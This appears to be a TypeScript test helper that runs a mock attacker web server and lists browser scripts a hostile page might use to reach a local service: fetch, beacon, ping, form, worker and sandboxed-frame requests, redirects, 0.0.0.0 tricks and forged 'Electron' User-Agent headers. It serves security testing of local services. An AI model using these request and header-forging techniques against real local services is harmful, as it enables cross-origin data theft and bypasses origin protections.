import { readFileSync } from 'node:fs'
import { createServer, type RequestListener } from 'node:http'
import { createServer as createTlsServer, type ServerOptions } from 'node:https'
import { onTestFinished } from 'vitest'
import { listen } from './listen.ts'

/** The attacker's own server lets its sandboxed frames send what they like. */
const OPEN = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*, user-agent' }

export const readCertificate = ({ certFile, keyFile }: { certFile: string; keyFile: string }) => ({
  cert: readFileSync(certFile),
  key: readFileSync(keyFile),
})

/** A web server of the attacker, with TLS if it has a certificate. @returns its port */
export async function servePage(
  headers: Record<string, string> = {},
  certificate?: ServerOptions,
): Promise<number> {
  const answer: RequestListener = (req, res) => {
    for (const [name, value] of Object.entries({ ...OPEN, ...headers })) res.setHeader(name, value)
    if (req.url?.startsWith('/redirect'))
      res.writeHead(307, { Location: String(req.url.split('?to=')[1]) }).end()
    else res.setHeader('Content-Type', 'text/html').end('<!doctype html><title>a page</title>')
  }
  const server = certificate ? createTlsServer(certificate, answer) : createServer(answer)
  const { port, close } = await listen(server)
  onTestFinished(close)
  return port
}

/** What a page tries; each leaves at least one request in the server's log. `url` and `body` are given. */
export const ATTEMPTS: readonly [what: string, script: string][] = [
  ['fetch of a simple request', `fetch(url, { method: 'POST', body })`],
  ['fetch without CORS', `fetch(url, { method: 'POST', body, mode: 'no-cors' })`],
  ['fetch as text/plain', `fetch(url, { method: 'POST', body, headers: { 'content-type': 'text/plain' } })`],
  ['fetch as JSON', `fetch(url, { method: 'POST', body, headers: { 'content-type': 'application/json' } })`],
  [
    'fetch as a desktop program',
    `fetch(url, { method: 'POST', body, headers: { 'user-agent': 'Electron/1' } })`,
  ],
  ['fetch with credentials', `fetch(url, { method: 'POST', body, credentials: 'include', mode: 'no-cors' })`],
  [
    'fetch without a referrer',
    `fetch(url, { method: 'POST', body, mode: 'no-cors', referrerPolicy: 'no-referrer' })`,
  ],
  ['fetch that outlives its page', `fetch(url, { method: 'POST', body, mode: 'no-cors', keepalive: true })`],
  ['fetch of the clipboard', `fetch(url, { method: 'POST', mode: 'no-cors' })`],
  ['fetch of a file', `fetch(url, { method: 'PUT', body: 'hello' })`],
  [
    'fetch of a file under its own type',
    `fetch(url, { method: 'POST', body: new Blob(['x'], { type: 'image/png' }), mode: 'no-cors' })`,
  ],
  [
    'fetch of a form',
    `(() => { const f = new FormData(); f.append('file', new Blob(['x']), 'a.png'); return fetch(url, { method: 'POST', body: f, mode: 'no-cors' }) })()`,
  ],
  [
    'fetch of 0.0.0.0',
    `fetch(url.replace('127.0.0.1', '0.0.0.0'), { method: 'POST', body, mode: 'no-cors' })`,
  ],
  ['fetch by way of a redirect', `fetch('/redirect?to=' + url, { method: 'POST', body, mode: 'no-cors' })`],
  [
    'XMLHttpRequest',
    `new Promise(done => { const x = new XMLHttpRequest(); x.open('POST', url); x.onloadend = done; x.send(body) })`,
  ],
  ['sendBeacon', `navigator.sendBeacon(url, body)`],
  ['sendBeacon without a body', `navigator.sendBeacon(url)`],
  [
    'the ping of a link',
    `(() => { const a = document.createElement('a'); a.href = '#'; a.ping = url; document.body.append(a); a.click() })()`,
  ],
  ['a report of its policy', `(() => { const i = new Image(); i.src = 'http://blocked.example/x.png' })()`],
  ['an image', `(() => { const i = new Image(); i.src = url + '?list=' + encodeURIComponent(body) })()`],
  ...['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map(
    (type): [string, string] => [`a form of ${type}`, `submit(document, '${type}')`],
  ),
  ['a form with a file', `submitFile('f' + Math.random())`],
  ['a form in a sandbox', `sandbox('submit(document, "text/plain")', 'allow-scripts allow-forms')`],
  ['fetch in a sandbox', `sandbox('fetch(url, { method: "POST", body, mode: "no-cors" })', 'allow-scripts')`],
  [
    'fetch in a data: page',
    `frame('data:text/html,' + encodeURIComponent(inner('fetch(url, { method: "POST", body, mode: "no-cors" })')))`,
  ],
  [
    'fetch in a blob: page',
    `frame(URL.createObjectURL(new Blob([inner('fetch(url, { method: "POST", body, mode: "no-cors" })')], { type: 'text/html' })))`,
  ],
  [
    'fetch in a worker',
    `new Worker(URL.createObjectURL(new Blob(['const url = ' + JSON.stringify(url) + ', body = ' + JSON.stringify(body) + '; fetch(url, { method: "POST", body, mode: "no-cors" })'])))`,
  ],
]

const AS_PROGRAM = `method: 'POST', body, headers: { 'User-Agent': 'Electron/1' }`

/** How a page may say that it is a desktop program. Each is a promise that settles with the request. */
export const FORGERIES: readonly [what: string, script: string][] = [
  ['plainly', `fetch(url, { ${AS_PROGRAM} })`],
  [
    'beside a header called *',
    `fetch(url, { method: 'POST', body, headers: { '*': '1', 'User-Agent': 'Electron/1' } })`,
  ],
  [
    'beside a header called *, with a type that needs no preflight',
    `fetch(url, { method: 'POST', body, headers: { '*': '1', 'User-Agent': 'Electron/1', 'Content-Type': 'text/plain' } })`,
  ],
  [
    'beside a header called *, by XMLHttpRequest',
    `new Promise(done => { const x = new XMLHttpRequest(); x.open('POST', url)
      x.setRequestHeader('*', '1'); x.setRequestHeader('User-Agent', 'Electron/1'); x.onloadend = done; x.send(body) })`,
  ],
  [
    'by XMLHttpRequest',
    `new Promise(done => { const x = new XMLHttpRequest(); x.open('POST', url)
      x.setRequestHeader('User-Agent', 'Electron/1'); x.onloadend = done; x.send(body) })`,
  ],
  ['without CORS', `fetch(url, { ${AS_PROGRAM}, mode: 'no-cors' })`],
  [
    'without CORS, set afterwards',
    `(() => { const r = new Request(url, { method: 'POST', body, mode: 'no-cors' })
      r.headers.set('User-Agent', 'Electron/1'); return fetch(r) })()`,
  ],
  ['in a request that outlives its page', `fetch(url, { ${AS_PROGRAM}, keepalive: true })`],
  ['by way of a redirect', `fetch(home + '/redirect?to=' + url, { ${AS_PROGRAM} })`],
  ['with credentials', `fetch(url, { ${AS_PROGRAM}, credentials: 'include' })`],
  ['as a file', `fetch(url, { method: 'PUT', body, headers: { '*': '1', 'User-Agent': 'Electron/1' } })`],
  [
    'in a worker',
    `new Promise(done => { new Worker(URL.createObjectURL(new Blob([
      'fetch(' + JSON.stringify(url) + ', { method: "POST", body: ' + JSON.stringify(body) + ', headers: { "*": "1", "User-Agent": "Electron/1" } }).catch(() => {}).then(() => postMessage(1))'
    ]))).onmessage = done })`,
  ],
]

const SCRIPT = readFileSync(new URL('../fixtures/evil-page.js', import.meta.url), 'utf8')

/** What the scripts use. */
export const TOOLS = (url: string, body: string): string =>
  `const url = ${JSON.stringify(url)}, body = ${JSON.stringify(body)}, home = location.origin\n${SCRIPT}`
